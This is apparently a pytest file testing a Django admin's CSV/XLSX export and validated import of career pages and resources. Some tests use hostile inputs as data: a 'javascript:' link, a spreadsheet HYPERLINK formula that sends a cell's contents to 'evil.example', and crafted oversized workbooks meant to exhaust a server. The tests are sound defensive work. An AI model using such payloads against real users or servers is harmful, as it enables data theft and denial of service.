"""Career pages and resources as CSV/XLSX: export, and all-or-nothing import."""

import csv
import datetime
import io
import re
import zipfile

import openpyxl
import pytest
from django.contrib.messages import get_messages
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone

from adminsite.spreadsheets import VERSION, VERSION_COLUMN, CheckedXLSX, SheetResource
from occupations.models import CareerPage
from resources.models import Resource
from tests.admin_forms import admin_url, change_form_data
from tests.factories import (
    CareerPageFactory,
    OccupationFactory,
    ResourceFactory,
    UserFactory,
)
from tests.html_text import visible_text
from tests.security.test_headers import inline_code
from tests.workbooks import sheet_xml_changed

pytestmark = pytest.mark.django_db

# What the preview says of a file whose every row is as stored.
UNCHANGED = "0 new, 0 to update, 0 to delete;"

CSV_FORMAT, XLSX_FORMAT = "0", "1"  # the order of SpreadsheetMixin.formats


def export(client, model, file_format):
    return client.post(
        admin_url(model, "export"),
        {"format": file_format, "resource": "0"},
    )


def test_export_career_pages_as_csv(admin_client):
    page = CareerPageFactory(duties="Some **duties**.")
    response = export(admin_client, CareerPage, CSV_FORMAT)
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert rows[0]["slug"] == page.slug
    assert rows[0]["occupation"] == page.occupation.code
    assert rows[0]["duties"] == "Some **duties**."


def test_export_resources_as_xlsx(admin_client):
    ResourceFactory(name="BLS handbook", url="https://www.bls.gov/ooh/")
    response = export(admin_client, Resource, XLSX_FORMAT)
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0][:3] == ["name", VERSION_COLUMN, "url"]
    assert values[1][0] == "BLS handbook"
    assert values[1][2] == "https://www.bls.gov/ooh/"


def test_export_writes_yes_and_no_as_an_import_asks_for_them(admin_client):
    """The CSV said 1 and 0, while an import refuses a word it does not know with
    "write yes or no"."""
    ResourceFactory(name="Shown", show_in_directory=True)
    ResourceFactory(name="Hidden", show_in_directory=False)
    response = export(admin_client, Resource, CSV_FORMAT)
    rows = csv.DictReader(io.StringIO(response.content.decode()))
    assert {row["name"]: row["show_in_directory"] for row in rows} == {
        "Shown": "yes",
        "Hidden": "no",
    }
    preview = upload(admin_client, Resource, response.content, "r.csv")
    assert preview.context["result"].totals["skip"] == 2


def test_import_does_not_count_the_empty_rows_after_the_last_as_records(
    admin_client,
):
    ResourceFactory(name="Shown")
    exported = export(admin_client, Resource, CSV_FORMAT).content.decode()
    content = exported.rstrip("\r\n") + "\r\n" + ",,,,\r\n" * 3
    preview = upload(admin_client, Resource, content, "r.csv")
    assert preview.context["result"].totals["skip"] == 1
    assert "; 1 unchanged, not listed." in visible_text(preview.content)
    # Nothing but them below the column names: no preview of nothing to confirm.
    header = exported.splitlines()[0]
    preview = upload(admin_client, Resource, header + "\r\n" + ",,,,\r\n" * 3, "r.csv")
    text = visible_text(preview.content)
    assert "The file has no rows below its column names: nothing to import." in text
    assert "Confirm import" not in text


def upload(client, model, content, name="pages.csv", file_format=CSV_FORMAT):
    """POST the import form with a file: `content` as text (UTF-8) or bytes."""
    if isinstance(content, str):
        content = content.encode()
    return client.post(
        admin_url(model, "import"),
        {
            "import_file": SimpleUploadedFile(name, content),
            "format": file_format,
            "resource": "0",
        },
    )


def pages_csv(occupation, *rows):
    header = "slug,title,career_name,career_name_plural,headline_year,occupation,status"
    lines = [header]
    for slug, year in rows:
        lines.append(
            f"{slug},{slug} Career Path,{slug},{slug}s,{year},{occupation.code},draft"
        )
    return "\n".join(lines) + "\n"


def confirm(client, model, preview):
    form = preview.context["confirm_form"]
    data = {name: form[name].value() for name in form.fields}
    return client.post(admin_url(model, "process_import"), data)


def test_import_career_pages_previews_then_creates_them(admin_client):
    occupation = OccupationFactory()
    preview = upload(admin_client, CareerPage, pages_csv(occupation, ("alpha", 2025)))
    assert preview.status_code == 200
    assert not CareerPage.objects.filter(slug="alpha").exists()  # only a preview
    found = inline_code(preview.content.decode())
    assert found.inline_scripts == [] and found.attributes == []
    response = confirm(admin_client, CareerPage, preview)
    assert response.status_code == 302
    page = CareerPage.objects.get(slug="alpha")
    assert (page.headline_year, page.status) == (2025, CareerPage.Status.DRAFT)
    assert page.history.latest().history_user.username == "admin"


def test_import_with_one_bad_row_shows_it_and_imports_nothing(admin_client):
    occupation = OccupationFactory()
    text = pages_csv(occupation, ("good-one", 2025), ("bad-one", 1066))
    response = upload(admin_client, CareerPage, text)
    assert response.status_code == 200
    content = visible_text(response.content)
    assert "Some rows failed to validate" in content
    # Row 3 as a spreadsheet shows the file (the header is row 1); shown as a
    # line, not only while the pointer is over the row's error count.
    error = "Row 3, headline_year: Ensure this value is greater than or equal to 2000."
    assert f"<li>{error}</li>" in response.content.decode()
    assert "validation-error-container" not in response.content.decode()
    assert "Confirm import" not in content
    assert not CareerPage.objects.filter(slug__in=["good-one", "bad-one"]).exists()


def test_import_refuses_a_title_and_headings_of_different_years(admin_client):
    occupation = OccupationFactory()
    header = "slug,title,career_name,career_name_plural,headline_year,occupation"
    text = f"{header}\nactuary,Actuary Career Path in 2026,Actuary,Actuaries,2025,"
    response = upload(admin_client, CareerPage, text + f"{occupation.code}\n")
    error = (
        "Row 2, headline_year: The title says 2026, the headings 2025 (“U.S. "
        "Salary in 2025”). Give them the same year."
    )
    assert error in visible_text(response.content)
    assert "Confirm import" not in visible_text(response.content)
    assert not CareerPage.objects.filter(slug="actuary").exists()


def test_import_resource_with_script_link_is_refused(admin_client):
    text = "name,url\nGood,https://example.org/\nEvil,javascript:alert(1)\n"
    response = upload(admin_client, Resource, text, name="resources.csv")
    assert "Enter a valid URL." in visible_text(response.content)
    assert not Resource.objects.exists()


def test_import_and_export_pages_need_no_inline_code(admin_client):
    for url in (
        admin_url(CareerPage, "import"),
        admin_url(CareerPage, "export"),
        admin_url(CareerPage, "changelist"),
        admin_url(Resource, "changelist"),
    ):
        response = admin_client.get(url)
        assert response.status_code == 200, url
        found = inline_code(response.content.decode())
        assert found.inline_scripts == [] and found.attributes == [], url


@pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT], ids=["csv", "xlsx"])
def test_an_unchanged_export_imports_again_without_errors(admin_client, file_format):
    """Empty editorial sections are empty cells, which a spreadsheet reads back as
    no value: they must come back as empty texts."""
    CareerPageFactory(duties="")
    exported = export(admin_client, CareerPage, file_format).content
    name = "pages.xlsx" if file_format == XLSX_FORMAT else "pages.csv"
    response = upload(admin_client, CareerPage, exported, name, file_format)
    assert response.status_code == 200
    text = visible_text(response.content)
    assert "Confirm import" in text and "Errors" not in text
    # Unchanged: skipped, not rewritten (nor given a revision each).
    assert UNCHANGED in text


def test_xlsx_export_writes_numbers_dates_and_yes_no_as_such(admin_client, settings):
    """Every cell had been text: a year Excel flags as "number stored as text", a
    publish time it would not sort or filter as a date."""
    settings.TIME_ZONE = "America/New_York"
    CareerPageFactory(
        headline_year=2026,
        status=CareerPage.Status.PUBLISHED,
        published_at=datetime.datetime(2026, 3, 1, 14, 30, 5, tzinfo=datetime.UTC),
    )
    ResourceFactory(show_in_directory=False)
    pages = export(admin_client, CareerPage, XLSX_FORMAT).content
    header, row = openpyxl.load_workbook(io.BytesIO(pages)).active.iter_rows()
    cells = {name.value: cell for name, cell in zip(header, row, strict=True)}
    assert cells["headline_year"].value == 2026
    assert cells["headline_year"].data_type == "n"
    # In the admin's time zone, as the admin's form shows it.
    assert cells["published_at"].value == datetime.datetime(2026, 3, 1, 9, 30, 5)
    assert cells["published_at"].is_date
    resources = export(admin_client, Resource, XLSX_FORMAT).content
    header, row = openpyxl.load_workbook(io.BytesIO(resources)).active.iter_rows()
    cells = {name.value: cell for name, cell in zip(header, row, strict=True)}
    assert cells["show_in_directory"].value is False
    # And the workbook reads back as it was.
    preview = upload(admin_client, CareerPage, pages, "pages.xlsx", XLSX_FORMAT)
    assert UNCHANGED in visible_text(preview.content)
    preview = upload(admin_client, Resource, resources, "r.xlsx", XLSX_FORMAT)
    assert UNCHANGED in visible_text(preview.content)


@pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT], ids=["csv", "xlsx"])
def test_export_text_a_spreadsheet_would_run_is_kept_as_text(admin_client, file_format):
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Details")'
    CareerPageFactory(
        summary=formula, duties="- a Markdown list item", outlook="'-' quoted"
    )
    exported = export(admin_client, CareerPage, file_format).content
    if file_format == XLSX_FORMAT:
        # Text with Excel's quote prefix: shown as typed, and still text when
        # the cell is edited (the apostrophe a CSV needs showed in Excel).
        sheet = openpyxl.load_workbook(io.BytesIO(exported)).active
        header, row = sheet.iter_rows()
        cells = {name.value: cell for name, cell in zip(header, row, strict=True)}
        for name in ("summary", "duties"):
            assert cells[name].data_type == "s" and cells[name].quotePrefix, name
        cells = {name: cell.value for name, cell in cells.items()}
        assert cells["summary"] == formula
        assert cells["duties"] == "- a Markdown list item"
    else:
        (cells,) = csv.DictReader(io.StringIO(exported.decode()))
        assert cells["summary"] == f"'{formula}"
        assert cells["duties"] == "'- a Markdown list item"
    assert cells["outlook"] == "''-' quoted"  # one apostrophe comes off again
    # The apostrophe comes off on the way back: the file imports unchanged.
    name = "pages.xlsx" if file_format == XLSX_FORMAT else "pages.csv"
    preview = upload(admin_client, CareerPage, exported, name, file_format)
    text = visible_text(preview.content)
    assert UNCHANGED in text


def test_import_yes_no_cells_take_words_and_refuse_the_unknown(admin_client):
    text = "name,url,show_in_directory\nA,https://a.example/,yes\nB,https://b.example/,No\n"
    preview = upload(admin_client, Resource, text, name="resources.csv")
    assert confirm(admin_client, Resource, preview).status_code == 302
    assert dict(Resource.objects.values_list("name", "show_in_directory")) == {
        "A": True,
        "B": False,
    }
    text = "name,url,show_in_directory\nC,https://c.example/,maybe\n"
    response = upload(admin_client, Resource, text, name="resources.csv")
    assert "“maybe” is not a yes/no value: write yes or no." in visible_text(
        response.content
    )
    assert not Resource.objects.filter(name="C").exists()


def test_import_title_of_spaces_is_refused(admin_client):
    occupation = OccupationFactory()
    text = pages_csv(occupation, ("spaces", 2025)).replace("spaces Career Path", "   ")
    response = upload(admin_client, CareerPage, text)
    assert "Row 2, title: This field cannot be blank." in visible_text(response.content)
    assert "Confirm import" not in visible_text(response.content)


def test_import_of_a_file_with_the_wrong_columns_says_so_without_a_traceback(
    admin_client,
):
    response = upload(admin_client, CareerPage, "foo,bar\n1,2\n")
    text = visible_text(response.content)
    assert "The file has no “slug” column: each row is matched" in text
    assert "Traceback" not in text and ".py" not in text
    assert not CareerPage.objects.exists()
    # Saved with semicolons, the header is one column.
    response = upload(admin_client, CareerPage, "slug;title\nx;y\n")
    assert "The file has no “slug” column" in visible_text(response.content)


def test_import_with_a_column_it_does_not_know_is_refused_naming_it(admin_client):
    """A misspelt column was ignored: the preview said "Skipped" and the change in
    it was lost without a word."""
    page = CareerPageFactory(slug="alpha", summary="Old.")
    text = "slug,Sumary,titel\nalpha,New summary.,New title\n"
    content = visible_text(upload(admin_client, CareerPage, text).content)
    assert "Unknown columns “Sumary”, “titel”. The columns this import reads: " in (
        content
    )
    assert f"slug, {VERSION_COLUMN}, title, career_name" in content
    assert "Confirm import" not in content
    page.refresh_from_db()
    assert page.summary == "Old."


def test_import_of_too_many_rows_is_refused(admin_client, settings):
    occupation = OccupationFactory()
    rows = [(f"page-{number}", 2025) for number in range(3001)]
    content = visible_text(
        upload(admin_client, CareerPage, pages_csv(occupation, *rows)).content
    )
    assert "The file has 3,001 rows; an import takes at most 3,000." in content
    assert not CareerPage.objects.exists()


@pytest.mark.parametrize("year", ["Infinity", "sNaN", "NaN", "1e400"])
def test_import_number_that_is_no_figure_says_so(admin_client, year):
    occupation = OccupationFactory()
    text = pages_csv(occupation, ("odd-year", year))
    content = visible_text(upload(admin_client, CareerPage, text).content)
    assert f"“{year}” is not a whole number." in content
    assert "class" not in content


def test_import_errors_name_the_value_that_is_wrong(admin_client):
    occupation = OccupationFactory()
    text = pages_csv(occupation, ("a-page", "abc")).replace(
        occupation.code, "99-9999.99"
    )
    response = upload(admin_client, CareerPage, text)
    text = visible_text(response.content)
    assert "“abc” is not a whole number." in text
    assert "No occupation has the O*NET-SOC code “99-9999.99”." in text
    assert "Confirm import" not in text


def test_import_with_one_record_on_two_lines_is_refused(admin_client):
    occupation = OccupationFactory()
    text = pages_csv(occupation, ("twice", 2025), ("other", 2025), ("twice", 2026))
    response = upload(admin_client, CareerPage, text)
    content = visible_text(response.content)
    assert "Row 4 is for the same slug “twice” as row 2" in content
    assert "Confirm import" not in content


def test_a_refused_file_says_only_why(admin_client):
    """A file refused whole (here a record on two rows) showed a second error
    after the right one: "the preview is no longer on record", as if confirmed.
    The check after the rows took the library's `dry_run` from what its row loop
    sets, and a refused file has no rows left to loop over."""
    names = [
        "Kaggle" if number in (3, 13) else f"Site {number}" for number in range(2, 15)
    ]
    text = "name,url\n" + "".join(f"{name},https://r.example/\n" for name in names)
    response = upload(admin_client, Resource, text, name="resources.csv")
    content = visible_text(response.content)
    assert "Row 13 is for the same name “Kaggle” as row 3" in content
    assert "no longer on record" not in content
    assert not Resource.objects.exists()


@pytest.mark.parametrize("encoding", ["utf-8-sig", "cp1252", "utf-16"])
def test_import_reads_the_encodings_excel_saves_csv_in(admin_client, encoding):
    occupation = OccupationFactory()
    text = pages_csv(occupation, ("cafe", 2025)).replace("cafe Career", "Café Career")
    preview = upload(admin_client, CareerPage, text.encode(encoding))
    assert "Café Career Path" in visible_text(preview.content)
    assert confirm(admin_client, CareerPage, preview).status_code == 302
    assert CareerPage.objects.get(slug="cafe").title == "Café Career Path"


def test_import_of_bytes_no_encoding_reads_says_how_to_save(admin_client):
    response = upload(admin_client, CareerPage, b"slug,title\nx,\x81\x8d\x8f\n")
    assert "save it as “CSV UTF-8 (Comma delimited)”" in visible_text(response.content)


def test_import_of_a_fraction_in_a_whole_number_column_is_refused(admin_client):
    occupation = OccupationFactory()
    response = upload(admin_client, CareerPage, pages_csv(occupation, ("a", "2024.5")))
    assert "“2024.5” is not a whole number." in visible_text(response.content)
    assert "Confirm import" not in visible_text(response.content)


def test_import_of_a_file_that_cannot_be_read_says_what_to_check(admin_client):
    response = upload(admin_client, Resource, b"abc", "resources.xlsx", XLSX_FORMAT)
    text = visible_text(response.content)
    assert "The file could not be read in the format chosen." in text
    assert "encountered" not in text


def test_import_reads_column_names_in_any_case_and_with_stray_spaces(admin_client):
    """A spreadsheet's capitals and a stray space: refused as "no “name”
    column", the file looking right."""
    text = "Name ,URL,Description\nCoursera,https://www.coursera.org/,Courses.\n"
    preview = upload(admin_client, Resource, text, name="resources.csv")
    assert confirm(admin_client, Resource, preview).status_code == 302
    assert Resource.objects.filter(name="Coursera", description="Courses.").exists()


def test_import_of_a_workbook_with_rows_on_two_sheets_is_refused(admin_client):
    """Only the sheet open when the workbook was saved was read: the rows on the
    other were ignored without a word."""
    workbook = openpyxl.Workbook()
    first = workbook.active
    first.title = "Courses"
    first.append(["name", "url"])
    first.append(["Coursera", "https://www.coursera.org/"])
    second = workbook.create_sheet("Books")
    second.append(["name", "url"])
    second.append(["A book", "https://books.example/"])
    workbook.create_sheet("Empty")
    stream = io.BytesIO()
    workbook.save(stream)
    preview = upload(admin_client, Resource, stream.getvalue(), "r.xlsx", XLSX_FORMAT)
    content = visible_text(preview.content)
    assert "The workbook has values on 2 sheets (“Courses”, “Books”)" in content
    assert "Confirm import" not in content


def test_import_reads_the_one_sheet_with_values_whichever_is_open(admin_client):
    """The library read the sheet open when the workbook was saved: an empty
    one, and the file "could not be read in the format chosen"."""
    workbook = openpyxl.Workbook()
    workbook.active.title = "Notes"
    courses = workbook.create_sheet("Courses")
    courses.append(["name", "url"])
    courses.append(["Coursera", "https://www.coursera.org/"])
    assert workbook.active.title == "Notes"
    stream = io.BytesIO()
    workbook.save(stream)
    preview = upload(admin_client, Resource, stream.getvalue(), "r.xlsx", XLSX_FORMAT)
    assert confirm(admin_client, Resource, preview).status_code == 302
    assert Resource.objects.filter(name="Coursera").exists()


def test_import_of_an_empty_workbook_says_so(admin_client):
    stream = io.BytesIO()
    openpyxl.Workbook().save(stream)
    preview = upload(admin_client, Resource, stream.getvalue(), "r.xlsx", XLSX_FORMAT)
    content = visible_text(preview.content)
    assert "The workbook is empty: its first row must name the columns." in content
    assert "Confirm import" not in content


def workbook_with_sheet_xml(rows_xml, dimension="A1:B2"):
    """A resources workbook (a header row, then `rows_xml` as written, rows 2
    onwards) whose sheet claims `dimension`: XML no spreadsheet program writes,
    but a few zipped bytes can."""
    workbook = openpyxl.Workbook()
    workbook.active.append(["name", "url"])
    stream = io.BytesIO()
    workbook.save(stream)

    def change(xml):
        xml = re.sub(
            rb'<dimension ref="[^"]*"', f'<dimension ref="{dimension}"'.encode(), xml
        )
        return xml.replace(
            b"</row></sheetData>", f"</row>{rows_xml}</sheetData>".encode()
        )

    return sheet_xml_changed(stream.getvalue(), change)


def text_cell(reference, text):
    return f'<c r="{reference}" t="inlineStr"><is><t>{text}</t></is></c>'


@pytest.mark.parametrize(
    ("rows_xml", "refusal"),
    [
        (  # 30 KB zipped; a million such rows in 98 KB took 20 s and 250 MB
            "".join(
                f'<row r="{row}"><c r="A{row}" s="1"/></row>'
                for row in range(2, 30_002)
            ),
            "The sheet “Sheet” has more than 20,000 rows or 1,000,000 cells",
        ),
        (  # a cell in the sheet's last column: every row 16,384 cells wide
            "".join(
                f'<row r="{row}">{text_cell(f"XFD{row}", "x")}</row>'
                for row in range(2, 100)
            ),
            "The sheet “Sheet” has more than 20,000 rows or 1,000,000 cells",
        ),
    ],
    ids=["rows", "cells"],
)
def test_import_of_a_workbook_too_big_to_read_is_refused_before_it_is_read(
    admin_client, rows_xml, refusal
):
    """The rows were all read before the import's own limit was checked."""
    content = workbook_with_sheet_xml(rows_xml)
    preview = upload(admin_client, Resource, content, "r.xlsx", XLSX_FORMAT)
    text = visible_text(preview.content)
    assert refusal in text
    assert "Confirm import" not in text


def test_import_of_a_csv_too_long_to_read_is_refused_before_it_is_read(
    admin_client,
):
    text = "name,url\n" + ",\n" * 20_001
    content = visible_text(upload(admin_client, Resource, text, "r.csv").content)
    assert "The file has more than 20,000 rows, empty ones included." in content
    assert "Confirm import" not in content


def test_import_reads_the_rows_a_workbook_holds_not_those_it_claims(admin_client):
    """A sheet's <dimension> can claim every row and column of a sheet: the
    library padded each row to it and added empty rows up to its end."""
    row = text_cell("A2", "Coursera") + text_cell("B2", "https://www.coursera.org/")
    content = workbook_with_sheet_xml(
        f'<row r="2">{row}</row>', dimension="A1:XFD1048576"
    )
    preview = upload(admin_client, Resource, content, "r.xlsx", XLSX_FORMAT)
    assert confirm(admin_client, Resource, preview).status_code == 302
    assert Resource.objects.filter(name="Coursera").exists()


def test_import_of_a_workbook_that_unpacks_too_big_is_refused(
    admin_client, monkeypatch
):
    monkeypatch.setattr(CheckedXLSX, "MOST_UNPACKED_BYTES", 2**20)
    filler = "".join(
        f'<row r="{row}"><c r="C{row}" s="1"/></row>' for row in range(2, 30_000)
    )
    content = workbook_with_sheet_xml(filler)
    preview = upload(admin_client, Resource, content, "r.xlsx", XLSX_FORMAT)
    text = visible_text(preview.content)
    assert "The workbook unpacks to 1.2 MB; an import reads at most 1.0 MB." in text


SPREADSHEET_XML = "http://schemas.openxmlformats.org"


def workbook_with_shared_strings(count):
    """A resources workbook whose shared-strings table holds `count` strings, in a
    part not named sharedStrings.xml, its namespace written with a prefix."""
    workbook = openpyxl.Workbook()
    workbook.active.append(["name", "url"])
    stream = io.BytesIO()
    workbook.save(stream)
    with zipfile.ZipFile(stream) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    entries = "".join(f"<x:si><x:t>text {n}</x:t></x:si>" for n in range(count))
    parts["xl/texts.xml"] = (
        f'<x:sst xmlns:x="{SPREADSHEET_XML}/spreadsheetml/2006/main">{entries}</x:sst>'
    ).encode()
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/xl/texts.xml" ContentType="application/vnd.'
        b'openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
    )
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        f'<Relationship Id="rIdTexts" Type="{SPREADSHEET_XML}/officeDocument/2006/'
        'relationships/sharedStrings" Target="texts.xml"/></Relationships>'.encode(),
    )
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in parts.items():
            target.writestr(name, data)
    return packed.getvalue()


def test_import_of_a_workbook_with_too_many_texts_is_refused_before_it_is_read(
    admin_client,
):
    """openpyxl reads the shared-strings table whole before any row: 56 KB zipped
    held a million strings, 25 s of a worker. (2.9 MB here: counted across the
    megabyte pieces the table is read in.)"""
    content = workbook_with_shared_strings(100_001)
    preview = upload(admin_client, Resource, content, "r.xlsx", XLSX_FORMAT)
    text = visible_text(preview.content)
    assert "The workbook holds 100,001 different texts; an import reads at most " in (
        text
    )
    assert "Confirm import" not in text


def test_import_of_a_workbook_with_too_many_styles_is_refused_before_it_is_read(
    admin_client,
):
    """openpyxl builds every record of the style table, even to read values: 0.5
    MB zipped held 3 million cell formats and kept a worker past its timeout."""
    workbook = openpyxl.Workbook()
    workbook.active.append(["name", "url"])
    workbook.active.append(["Coursera", "https://www.coursera.org/"])
    stream = io.BytesIO()
    workbook.save(stream)
    with zipfile.ZipFile(stream) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    styles = parts["xl/styles.xml"]
    formats = b'<xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
    parts["xl/styles.xml"] = re.sub(
        rb"<cellXfs count=\"\d+\">",
        b'<cellXfs count="20002">' + formats * 20_001,
        styles,
    )
    assert parts["xl/styles.xml"] != styles
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in parts.items():
            target.writestr(name, data)
    preview = upload(admin_client, Resource, packed.getvalue(), "r.xlsx", XLSX_FORMAT)
    text = visible_text(preview.content)
    assert re.search(r"The workbook defines 20,0\d\d styles .* at most 20,000", text)
    assert "Confirm import" not in text
    assert not Resource.objects.filter(name="Coursera").exists()


def test_import_of_a_file_too_large_is_refused(admin_client, monkeypatch):
    monkeypatch.setattr("adminsite.spreadsheets.MOST_UPLOAD_BYTES", 2**10)
    text = "name,url\n" + "Coursera,https://www.coursera.org/\n" * 40
    preview = upload(admin_client, Resource, text, "r.csv")
    assert "The file is 0.0 MB; an import takes at most 0 MB." in (
        visible_text(preview.content)
    )
    assert not Resource.objects.filter(name="Coursera").exists()


def test_import_blank_position_leaves_it_as_it_is(admin_client):
    ResourceFactory(name="Kept", url="https://kept.example/", position=5)
    text = "name,url,position\nKept,https://kept.example/,\nNew,https://new.example/,\n"
    preview = upload(admin_client, Resource, text, name="resources.csv")
    assert confirm(admin_client, Resource, preview).status_code == 302
    assert dict(Resource.objects.values_list("name", "position")) == {
        "Kept": 5,  # was reset to 0, the top of the list
        "New": 0,  # the default
    }


def test_import_blank_status_and_lists_cells_leave_them_as_they_are(admin_client):
    """Read as their defaults, a cleared status cell took a live page down
    (draft) and a cleared lists cell showed all its data."""
    CareerPageFactory(
        slug="live",
        status=CareerPage.Status.PUBLISHED,
        data_lists=CareerPage.DataLists.CURATED,
    )
    rows = list(
        csv.DictReader(
            io.StringIO(export(admin_client, CareerPage, CSV_FORMAT).content.decode())
        )
    )
    rows[0].update(status="", data_lists="")
    stream = io.StringIO()
    writer = csv.DictWriter(stream, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    preview = upload(admin_client, CareerPage, stream.getvalue())
    assert "1 unchanged, not listed" in visible_text(preview.content)
    assert confirm(admin_client, CareerPage, preview).status_code == 302
    page = CareerPage.objects.get(slug="live")
    assert (page.status, page.data_lists) == ("published", "curated")
    # A new page takes the defaults.
    occupation = OccupationFactory()
    text = pages_csv(occupation, ("fresh", 2025)).replace(",draft\n", ",\n")
    preview = upload(admin_client, CareerPage, text)
    assert confirm(admin_client, CareerPage, preview).status_code == 302
    assert CareerPage.objects.get(slug="fresh").status == "draft"


def test_import_reads_choices_by_label_in_any_case_and_names_them_otherwise(
    admin_client,
):
    occupation = OccupationFactory()
    text = pages_csv(occupation, ("by-label", 2025), ("unknown", 2025)).splitlines()
    text[1] = text[1].replace(",draft", ",Published")
    text[2] = text[2].replace(",draft", ",Live")
    preview = upload(admin_client, CareerPage, "\n".join(text) + "\n")
    content = visible_text(preview.content)
    assert "“Live” is not one of: draft, published." in content
    assert "Published" not in content  # the first row's label was read

    preview = upload(admin_client, CareerPage, "\n".join(text[:2]) + "\n")
    assert confirm(admin_client, CareerPage, preview).status_code == 302
    assert CareerPage.objects.get(slug="by-label").status == "published"


def test_import_link_without_scheme_and_a_misspelt_date_say_what_they_need(
    admin_client,
):
    upload_text = "name,url\nCoursera,www.coursera.org\n"
    preview = upload(admin_client, Resource, upload_text, name="resources.csv")
    assert confirm(admin_client, Resource, preview).status_code == 302
    assert Resource.objects.get(name="Coursera").url == "https://www.coursera.org"

    occupation = OccupationFactory()
    text = pages_csv(occupation, ("dated", 2025)).splitlines()
    text[0] += ",published_at"
    text[1] += ",26/11/2026 09:00"
    content = visible_text(upload(admin_client, CareerPage, "\n".join(text)).content)
    assert (
        "“26/11/2026 09:00” is not a date and time: write it as 2026-11-26 09:00"
        in (content)
    )


def test_import_of_text_with_other_line_endings_is_no_change(admin_client):
    """The admin stores a text box's line breaks as the browser sends them (CRLF);
    a sheet saved with LF line breaks previewed every such page as an update."""
    CareerPageFactory(duties="First line.\r\nSecond line.")
    exported = export(admin_client, CareerPage, CSV_FORMAT).content.decode()
    assert "First line.\r\nSecond line." in exported
    saved_with_lf = exported.replace("\r\n", "\n").encode()
    text = visible_text(upload(admin_client, CareerPage, saved_with_lf).content)
    assert UNCHANGED in text


@pytest.mark.parametrize(
    "changes",
    [
        {"import_file_name": "no-such-file"},
        {"import_file_name": "x" * 300},
        {"format": "abc"},
        {"format": "9"},
        {"format": XLSX_FORMAT},
        {"resource": "9"},
    ],
    ids=[
        "unknown file",
        "long name",
        "unreadable format",
        "format not listed",
        "another format than the preview's",
        "rows not listed",
    ],
)
def test_a_confirmation_naming_no_waiting_file_is_a_message(admin_client, changes):
    occupation = OccupationFactory()
    preview = upload(admin_client, CareerPage, pages_csv(occupation, ("alpha", 2025)))
    form = preview.context["confirm_form"]
    data = {name: form[name].value() for name in form.fields} | changes
    response = admin_client.post(
        admin_url(CareerPage, "process_import"), data, follow=True
    )
    assert response.status_code == 200
    assert "no longer waiting for confirmation" in visible_text(response.content)
    assert not CareerPage.objects.filter(slug="alpha").exists()


def test_a_workbook_confirmed_as_a_csv_is_a_message(admin_client):
    """The preview read the file as a workbook; read as a CSV, it was a 500."""
    ResourceFactory(name="Kept")
    workbook = export(admin_client, Resource, XLSX_FORMAT).content
    preview = upload(admin_client, Resource, workbook, "r.xlsx", XLSX_FORMAT)
    form = preview.context["confirm_form"]
    data = {name: form[name].value() for name in form.fields} | {"format": CSV_FORMAT}
    response = admin_client.post(
        admin_url(Resource, "process_import"), data, follow=True
    )
    assert "no longer waiting for confirmation" in visible_text(response.content)


def test_a_confirmation_whose_preview_records_were_evicted_is_a_message(
    admin_client,
):
    """The cache may evict what the preview kept beside the file before the file:
    every row was then reported "changed since the preview"."""
    kept = ResourceFactory(name="Kept", url="https://kept.example/old")
    text = "name,url\nKept,https://kept.example/new\n"
    preview = upload(admin_client, Resource, text, name="resources.csv")
    name = preview.context["confirm_form"]["import_file_name"].value()
    cache.delete(f"spreadsheet-upload-records:{name}")
    response = confirm(admin_client, Resource, preview)
    (message,) = [str(message) for message in get_messages(response.wsgi_request)]
    assert "no longer waiting for confirmation" in message
    kept.refresh_from_db()
    assert kept.url == "https://kept.example/old"


@pytest.mark.parametrize("meanwhile", ["saved", "added"])
def test_a_record_saved_or_added_after_the_preview_stops_the_import(
    admin_client, meanwhile
):
    """Confirmed, the file overwrote another editor's save made after the
    preview, and updated a record added since where the preview said "New":
    changes no one had seen."""
    kept = ResourceFactory(name="Kept", description="As previewed.")
    text = (
        "name,url,description\n"
        "Kept,https://kept.example/,From the file.\n"
        "Added,https://added.example/,From the file.\n"
    )
    preview = upload(admin_client, Resource, text, name="resources.csv")
    if meanwhile == "saved":
        kept.description = "Another editor's."
        kept.save()
    else:
        ResourceFactory(name="Added", description="Another editor's.")
    response = confirm(admin_client, Resource, preview)
    assert response.status_code == 302
    (message,) = [str(message) for message in get_messages(response.wsgi_request)]
    assert message.startswith("Nothing was imported")
    row = 2 if meanwhile == "saved" else 3  # the header is row 1
    assert f"the record of row {row} changed since the preview" in message
    assert set(Resource.objects.values_list("description", flat=True)) == {
        "Another editor's.",
        *(["As previewed."] if meanwhile == "added" else []),
    }


def test_the_uploaded_file_waits_in_the_shared_cache(admin_client):
    """Several app servers share the cache, not a temporary folder: the
    confirmation may reach another server than the upload. With the cache
    emptied in between, the file is gone."""
    occupation = OccupationFactory()
    preview = upload(admin_client, CareerPage, pages_csv(occupation, ("alpha", 2025)))
    cache.clear()
    response = confirm(admin_client, CareerPage, preview)
    assert response.status_code == 302
    assert response["Location"] == admin_url(CareerPage, "import")
    assert not CareerPage.objects.filter(slug="alpha").exists()


@pytest.mark.parametrize("filters", ["format=abc", "name__regex=(", "id__range=1"])
def test_an_export_address_with_filters_the_list_cannot_read_exports_everything(
    admin_client, filters
):
    ResourceFactory(name="BLS handbook")
    url = admin_url(Resource, "export")
    response = admin_client.post(
        f"{url}?{filters}", {"format": CSV_FORMAT, "resource": "0"}, follow=True
    )
